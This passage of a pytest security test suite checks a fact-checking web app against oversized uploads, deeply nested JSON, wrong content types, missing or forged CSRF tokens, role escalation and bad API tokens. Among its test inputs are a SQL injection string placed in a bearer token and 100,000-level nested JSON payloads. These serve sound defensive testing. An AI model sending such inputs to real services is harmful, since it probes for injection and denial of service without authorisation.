        [(b"source", None, b"S"), (b"files", b"huge.txt", b"M " * TEN_MB)]
    )
    response = client.post("/articles/new", data=body, content_type=content_type)
    assert page_error(response, 413) == "The upload is too large; the limit is 2 MB."
    assert counts(app) == before


def test_50000_one_word_sentences_over_the_char_limit_are_refused_fast(client, app):
    before = counts(app)
    start = time.monotonic()
    response = client.post(
        "/api/articles", json={"title": "T", "source": "S", "body": "Mot. " * 50_000}
    )
    json_error(response, 413, "249,999 characters", "200,000")
    assert time.monotonic() - start < 5
    assert counts(app) == before


SLOW_BUDGET = 30  # seconds for one request; an article with no claims at all to embed or link
_SLOW_CHILD = """
import sys, time
from pathlib import Path
sys.path[:0] = [{root!r}]
from tests.conftest import HashingEmbedder, login, make_app
app = make_app(Path({tmp!r}), HashingEmbedder())
client = login(app.test_client())
body = "Mot. " * {n}
assert len(body.strip()) <= app.config["MAX_BODY_CHARS"]
start = time.monotonic()
response = client.post("/api/articles", json={{"title": "Mots", "source": "S", "body": body}})
print(response.status_code, round(time.monotonic() - start, 1))
"""


def test_40000_one_word_sentences_within_the_char_limit_finish(tmp_path):
    code = _SLOW_CHILD.format(root=str(ROOT), tmp=str(tmp_path), n=39_999)
    try:
        done = subprocess.run(
            [sys.executable, "-c", code],
            capture_output=True,
            text=True,
            timeout=SLOW_BUDGET + 20,  # + start-up: imports, migrations, password hashing
            cwd=ROOT,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"the import did not finish within {SLOW_BUDGET + 20} s (killed)")
    assert done.returncode == 0, done.stderr[-2000:]
    status, seconds = done.stdout.split()
    assert status in ("201", "400", "413"), done.stdout
    assert float(seconds) <= SLOW_BUDGET, done.stdout


def nested(depth: int, kind: str) -> str:
    """Return JSON nested `depth` levels deep: [[[...]]] or {"a": {"a": ...}}."""
    if kind == "list":
        return "[" * depth + "]" * depth
    return '{"a": ' * depth + "1" + "}" * depth


DEEP_BUG = (
    "BUG claims/api/routes.py:37 and claims/importing.py:74/96: json.loads raises RecursionError "
    "(not ValueError) on deep nesting; get_json(silent=True) and the JSONDecodeError handler "
    "let it escape, so the answer is a 500."
)


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        pytest.param("api-article", "list"),
        pytest.param("api-article", "dict"),
        pytest.param("api-verdict", "list"),
        pytest.param("upload-json", "list"),
        pytest.param("upload-jsonl", "dict"),
    ],
    ids=[
        "api-article-100k-lists",
        "api-article-100k-objects",
        "api-verdict-100k-lists",
        "upload-json-100k-lists",
        "upload-jsonl-100k-objects",
    ],
)
def test_deeply_nested_json_is_a_400(client, app, target, kind):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    document = nested(100_000, kind)
    if target.startswith("api"):
        path = "/api/articles" if target == "api-article" else f"/api/claims/{claim}/verdicts"
        json_error(raw_json(client, path, document), 400, "JSON")
    else:
        name = "deep.json" if target == "upload-json" else "deep.jsonl"
        parts = [(b"source", None, b"S"), (b"files", name.encode(), document.encode())]
        body, content_type = multipart(parts)
        response = client.post("/articles/new", data=body, content_type=content_type)
        page_error(response, 400, name)
    assert counts(app) == before


def test_moderately_nested_json_in_a_field_is_a_400(client, app):
    before = counts(app)
    document = '{"title": ' + nested(500, "list") + ', "source": "S", "body": "B b b b b."}'
    json_error(raw_json(client, "/api/articles", document), 400, "title")
    assert counts(app) == before


@dataclass(frozen=True)
class Oversize:
    id: str
    path: str  # {claim} is replaced by a stored claim's id
    form: dict[str, str]
    words: tuple[str, ...]
    status: int = 400
    marks: tuple = field(default=())


FORM_PARTS_BUG = (
    "BUG claims/errors_web.py:40-42: every 413 says 'the limit is 2 MB' (MAX_CONTENT_LENGTH), "
    "also when Werkzeug refused the form for MAX_FORM_PARTS (200 fields) or "
    "MAX_FORM_MEMORY_SIZE (a 1 MB field) in a request far below 2 MB."
)
OVERSIZE_CASES = [
    Oversize("form-title-5000", "/articles/new", {"title": "t" * 5000, "source": "S"}, ("title",)),
    Oversize(
        "form-source-1000", "/articles/new", {"title": "T", "source": "s" * 1000}, ("source",)
    ),
    Oversize("form-language-long", "/articles/new", {"language": "fr" * 50}, ("language",)),
    Oversize(
        "form-url-3000", "/articles/new", {"url": "https://a.example/" + "p" * 3000}, ("url",)
    ),
    Oversize(
        "comment-10001",
        "/claims/{claim}/comments",
        {"body": "c" * 10_001},
        ("at most 10,000 characters",),
    ),
    Oversize(
        "explanation-20001",
        "/claims/{claim}/verdicts",
        {"rating": "false", "explanation": "e" * 20_001},
        ("explanation",),
    ),
    Oversize(
        "evidence-51-urls",
        "/claims/{claim}/verdicts",
        {"rating": "false", "explanation": "x", "evidence_urls": "https://a.example\n" * 51},
        ("evidence_urls",),
    ),
    Oversize("claim-edit-2001", "/claims/{claim}/text", {"text": "w " * 2001}, ("at most 2,000",)),
    Oversize(
        "300-form-fields",
        "/articles/new",
        {f"field{i}": "x" for i in range(300)},
        ("too large",),
        status=413,
    ),
    Oversize(
        "one-1.5MB-multipart-field",
        "/articles/new",
        {"title": "T", "source": "S", "body": "z" * 1_500_000},
        ("too large",),
        status=413,
    ),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in OVERSIZE_CASES])
def test_oversize_form_fields_are_refused(client, app, case):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    form = {"title": "T", "source": "S", "body": unique_body(), **case.form}
    if not case.path.startswith("/articles/new"):
        form = case.form
    body, content_type = multipart([(k.encode(), None, v.encode()) for k, v in form.items()])
    response = client.post(case.path.format(claim=claim), data=body, content_type=content_type)
    message = page_error(response, case.status, *case.words)
    if case.status == 413:
        assert "2 MB" not in message, "the request was below the 2 MB limit"
    assert counts(app) == before


# --- 7. wrong content types ---------------------------------------------------------------------


@dataclass(frozen=True)
class ContentType:
    id: str
    path: str
    data: bytes | dict
    content_type: str
    words: tuple[str, ...]


ARTICLE_JSON = json.dumps({"title": "T", "source": "S", "body": SHARED}).encode()
VERDICT_JSON = b'{"rating": "false", "explanation": "Checked."}'
CONTENT_TYPE_CASES = [
    ContentType(
        "api-article-text-plain", "/api/articles", ARTICLE_JSON, "text/plain", ("application/json",)
    ),
    ContentType(
        "api-article-multipart",
        "/api/articles",
        {"title": "T", "source": "S", "body": SHARED},
        "multipart/form-data",
        ("application/json",),
    ),
    ContentType(
        "api-article-xml",
        "/api/articles",
        b"<article><title>T</title></article>",
        "application/xml",
        ("application/json",),
    ),
    ContentType(
        "api-article-json-label-on-form-body",
        "/api/articles",
        b"title=T&source=S&body=B",
        "application/json",
        ("not valid JSON",),
    ),
    ContentType(
        "api-verdict-text-plain",
        "/api/claims/{claim}/verdicts",
        VERDICT_JSON,
        "text/plain;charset=utf-8",
        ("application/json",),
    ),
    ContentType(
        "form-import-gets-json", "/articles/new", ARTICLE_JSON, "application/json", ("title",)
    ),
    ContentType(
        "form-verdict-gets-json",
        "/claims/{claim}/verdicts",
        VERDICT_JSON,
        "application/json",
        ("rating", "explanation"),
    ),
    ContentType(
        "form-import-gets-xml",
        "/articles/new",
        b"<?xml version='1.0'?><a/>",
        "text/xml",
        ("title", "source", "body"),
    ),
]


@pytest.mark.parametrize("case", CONTENT_TYPE_CASES, ids=lambda c: c.id)
def test_wrong_content_types_are_refused(client, app, case):
    claim = post_article(client, body=unique_body())["claims"][0]["id"]
    before = counts(app)
    path = case.path.format(claim=claim)
    response = client.post(path, data=case.data, content_type=case.content_type)
    (json_error if path.startswith("/api/") else page_error)(response, 400, *case.words)
    assert counts(app) == before


# --- 8. forms without a CSRF token ------------------------------------------------------------


@pytest.fixture
def csrf_app(tmp_path):
    """An app with CSRF on, an admin signed in (with a token) and two linked articles."""
    app = make_app(tmp_path, HashingEmbedder(), WTF_CSRF_ENABLED=True)
    client = app.test_client()
    token = csrf_token(client.get("/login"))
    form = {"username": "admin", "password": PASSWORDS["admin"], "csrf_token": token}
    assert client.post("/login", data=form).status_code == 302
    with Session(engine(app)) as session:
        _, secret = create_token(session, find_user(session, "admin"), "seed", actor="test")
    api = app.test_client()
    api.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {secret}"
    world = seed(api, app)
    return SimpleNamespace(app=app, client=client, world=world)


@dataclass(frozen=True)
class Csrf:
    id: str
    path: str  # {claim}, {link} and {article} are filled from the seeded world
    form: dict[str, str]
    token: str | None = None  # a forged token value, or None for no token at all


CSRF_CASES = [
    Csrf("import-form", "/articles/new", {"title": "T", "source": "S", "body": unique_body()}),
    Csrf("verdict-form", "/claims/{claim}/verdicts", {"rating": "false", "explanation": "x"}),
    Csrf("verdict-form-forged-token", "/claims/{claim}/verdicts", {"rating": "true"}, "forged"),
    Csrf("link-decision", "/links/{link}", {"state": "confirmed", "claim_id": "{claim}"}),
    Csrf("comment", "/claims/{claim}/comments", {"body": "sneaky"}),
    Csrf("admin-user-create", "/admin/users", {"username": "mallory", "password": "p" * 12}),
    Csrf("admin-role-change", "/admin/users/1", {"role": "viewer", "action": "disable"}),
    Csrf("article-delete", "/articles/{article}/delete", {}),
    Csrf("token-create", "/account/tokens", {"name": "stolen"}),
    Csrf("logout", "/logout", {}),
]


@pytest.mark.parametrize("case", CSRF_CASES, ids=lambda c: c.id)
def test_forms_without_csrf_are_400_and_change_nothing(csrf_app, case):
    app, client, world = csrf_app.app, csrf_app.client, csrf_app.world
    ids = {"claim": world.claim_id, "link": world.link_id, "article": world.article_id}
    form = {k: v.format(**ids) for k, v in case.form.items()}
    if case.token:
        form["csrf_token"] = case.token
    before, links = counts(app), [(x.state, x.decided_by) for x in rows(app, ClaimLink)]
    response = client.post(case.path.format(**ids), data=form)
    assert page_error(response, 400).startswith(CSRF_MESSAGE)
    assert counts(app) == before
    assert [(x.state, x.decided_by) for x in rows(app, ClaimLink)] == links
    assert all(u.active and u.role == u.username for u in rows(app, User))
    assert client.get("/claims").status_code == 200  # still signed in


def test_api_post_on_a_session_without_the_csrf_header_is_400_json(csrf_app):
    app, client = csrf_app.app, csrf_app.client
    before = counts(app)
    response = client.post("/api/articles", json={"title": "T", "source": "S", "body": SHARED})
    assert json_error(response, 400).startswith(CSRF_MESSAGE)
    response = client.delete(f"/api/articles/{csrf_app.world.article_id}")
    assert json_error(response, 400).startswith(CSRF_MESSAGE)
    assert counts(app) == before


# --- 9. actions beyond one's role -----------------------------------------------------------


@dataclass(frozen=True)
class Role:
    id: str
    role: str
    method: str
    path: str  # {claim}, {link}, {article}, {viewer} and {token} are filled in
    body: dict[str, str] | None = None
    needs: str = "reviewer"


ROLE_CASES = [
    Role("viewer-imports-form", "viewer", "form", "/articles/new", {"title": "T", "source": "S"}),
    Role("viewer-imports-api", "viewer", "json", "/api/articles", {"title": "T", "source": "S"}),
    Role("viewer-verdict-form", "viewer", "form", "/claims/{claim}/verdicts", {"rating": "true"}),
    Role("viewer-verdict-api", "viewer", "json", "/api/claims/{claim}/verdicts", {"rating": "x"}),
    Role("viewer-comment", "viewer", "form", "/claims/{claim}/comments", {"body": "hi"}),
    Role("viewer-link-decision", "viewer", "form", "/links/{link}", {"state": "confirmed"}),
    Role("viewer-claim-edit", "viewer", "form", "/claims/{claim}/text", {"text": "Changed."}),
    Role(
        "reviewer-creates-user",
        "reviewer",
        "form",
        "/admin/users",
        {"username": "mallory", "password": "p" * 12, "role": "admin"},
        needs="admin",
    ),
    Role(
        "reviewer-promotes-viewer",
        "reviewer",
        "form",
        "/admin/users/{viewer}",
        {"role": "admin", "action": "role"},
        needs="admin",
    ),
    Role("reviewer-deletes-form", "reviewer", "form", "/articles/{article}/delete", needs="admin"),
    Role("reviewer-deletes-api", "reviewer", "delete", "/api/articles/{article}", needs="admin"),
    Role("viewer-token-imports-api", "viewer", "token", "/api/articles", {"title": "T"}),
]


@pytest.mark.parametrize("case", ROLE_CASES, ids=lambda c: c.id)
def test_actions_beyond_ones_role_are_403(client, app, case):
    world = seed(client, app)
    viewer = find_user_id(app, "viewer")
    ids = {"claim": world.claim_id, "link": world.link_id, "article": world.article_id}
    path = case.path.format(viewer=viewer, **ids)
    body = {"source": "S", "body": unique_body(), "explanation": "x", **(case.body or {})}
    actor = app.test_client()
    if case.method == "token":
        with Session(engine(app)) as session:
            _, secret = create_token(session, find_user(session, case.role), "t", actor="test")
        actor.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {secret}"
    else:
        login(actor, case.role)
    before = counts(app)
    if case.method in ("json", "token"):
        response = actor.post(path, json=body)
    elif case.method == "delete":
        response = actor.delete(path)
    else:
        response = actor.post(path, data=body)
    expected = f"This needs the {case.needs} role; you are signed in as a {case.role}."
    if path.startswith("/api/"):
        assert json_error(response, 403) == expected
    else:
        assert page_error(response, 403) == expected
    assert counts(app) == before
    assert rows(app, ClaimLink, ClaimLink.id == world.link_id)[0].state == "suggested"
    assert {u.username: u.role for u in rows(app, User)} == {r: r for r in PASSWORDS}


def find_user_id(app, username: str) -> int:
    """Return a fixture user's id."""
    with Session(engine(app)) as session:
        return find_user(session, username).id


def test_a_viewer_cannot_revoke_someone_elses_token(client, app):
    with Session(engine(app)) as session:
        token_id = create_token(session, find_user(session, "admin"), "a", actor="test")[0].id
    viewer = login(app.test_client(), "viewer")
    response = viewer.post(f"/account/tokens/{token_id}/revoke")
    assert page_error(response, 404) == f"There is no token with id {token_id}."
    assert rows(app, ApiToken, ApiToken.id == token_id)[0].revoked_at is None


# --- 10. dead, foreign and garbage API tokens ----------------------------------------------------


def _expire(session, token):
    token.expires_at = utcnow() - timedelta(minutes=1)
    session.add(token)
    session.commit()


def _revoke(session, token):
    revoke_token(session, token.id, find_user(session, "admin"), "admin")


def _disable_owner(session, token):
    update_user(session, token.user_id, "admin", active=False)


@dataclass(frozen=True)
class Token:
    id: str
    header: Callable[[str], str]  # from the live secret to the Authorization header sent
    spoil: Callable | None = None
    status: int = 401


TOKEN_CASES = [
    Token("live-token-control", lambda s: f"Bearer {s}", status=201),
    Token("expired", lambda s: f"Bearer {s}", _expire),
    Token("revoked", lambda s: f"Bearer {s}", _revoke),
    Token("disabled-user", lambda s: f"Bearer {s}", _disable_owner),
    Token("garbage", lambda s: "Bearer ct_not-a-real-token-at-all"),
    Token("truncated-secret", lambda s: f"Bearer {s[:-1]}"),
    Token("sql-in-token", lambda s: "Bearer ' OR 1=1 --"),
    Token("empty-bearer", lambda s: "Bearer    "),
    Token("basic-scheme-with-password", lambda s: "Basic cmV2aWV3ZXI6cmV2aWV3ZXItcGFzc3dvcmQ="),
    Token("token-as-basic", lambda s: f"Basic {s}"),
]


@pytest.mark.parametrize("case", TOKEN_CASES, ids=lambda c: c.id)
def test_dead_or_garbage_tokens_are_401(app, case):
    with Session(engine(app)) as session:
        token, secret = create_token(session, find_user(session, "reviewer"), "ci", "test", 30)
        if case.spoil:
            case.spoil(session, token)
    caller = app.test_client()
    headers = {"Authorization": case.header(secret)}
    before = counts(app)
    article = {"title": "T", "source": "S", "body": unique_body()}
    response = caller.post("/api/articles", json=article, headers=headers)
    if case.status == 201:
        assert response.status_code == 201, response.get_data(as_text=True)[:500]
        return
    json_error(response, 401, "Authorization: Bearer")
    assert counts(app) == before
    json_error(caller.get("/api/claims", headers=headers), 401)
    assert caller.get("/claims", headers=headers).status_code == 302  # pages: to sign-in
